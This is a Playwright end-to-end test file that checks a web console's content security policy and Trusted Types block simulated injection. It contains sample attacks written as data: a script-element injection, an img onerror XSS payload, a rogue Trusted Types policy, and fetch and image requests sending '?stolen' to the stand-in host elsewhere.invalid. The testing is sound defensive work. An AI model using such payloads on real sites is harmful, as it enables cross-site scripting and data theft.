import type { Page } from '@playwright/test'
import { entries, historyPath, visit } from '#e2e/support/console.ts'
import { environmentOf } from '#e2e/support/served.ts'
import { expect, test } from '#e2e/support/test.ts'

/* The content security policy and Trusted Types, as the browser enforces them on the built console. */

/** The attempts of an attacker who can write into the page; each one reports whether it ran. */
const ATTEMPTS: Record<string, { reported: string; attempt: () => unknown }> = {
  'a script element': {
    reported: 'CSP: require-trusted-types-for blocked trusted-types-sink',
    attempt: () => {
      const script = document.createElement('script')
      script.append('document.title = "run"')
      document.body.append(script)
    },
  },
  'a handler in markup': {
    reported: 'CSP: require-trusted-types-for blocked trusted-types-sink',
    attempt: () => {
      document.body.innerHTML = '<img src="x:" onerror="document.title = `run`">'
    },
  },
  'a new Trusted Types policy': {
    reported: 'CSP: trusted-types blocked trusted-types-policy',
    attempt: () => {
      const { trustedTypes } = globalThis as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
      }
      trustedTypes.createPolicy('mine', { createHTML: (text: string) => text })
    },
  },
  'a request to another origin': {
    reported: 'CSP: connect-src blocked https://elsewhere.invalid',
    attempt: () => fetch('https://elsewhere.invalid/?stolen'),
  },
  'an image of another origin': {
    reported: 'CSP: img-src blocked https://elsewhere.invalid',
    attempt: () => {
      const picture = document.createElement('img')
      picture.src = 'https://elsewhere.invalid/?stolen'
      document.body.append(picture)
    },
  },
}

const violationsOf = (page: Page) => {
  const reported: string[] = []
  page.on('console', (message) => {
    if (message.text().startsWith('CSP: ')) reported.push(message.text())
  })
  return reported
}

for (const [name, { reported, attempt }] of Object.entries(ATTEMPTS)) {
  test.describe(name, { tag: name === 'a script element' ? [] : '@long' }, () => {
    test.use({ quietAbout: 'violations' })

    test('is blocked, and would fail any journey @core @path', async ({
      page,
      served,
      problems,
    }) => {
      const violations = violationsOf(page)
      await visit(page, historyPath(environmentOf(served, 'single')))
      await expect(entries(page)).toHaveCount(1)
      expect(problems).toEqual([])
      await page.evaluate(attempt).catch(() => {})
      await expect.poll(() => violations).toContainEqual(expect.stringContaining(reported))
      await expect(page).not.toHaveTitle('run')
      expect(problems).toContainEqual(expect.stringContaining(reported))
    })
  })
}
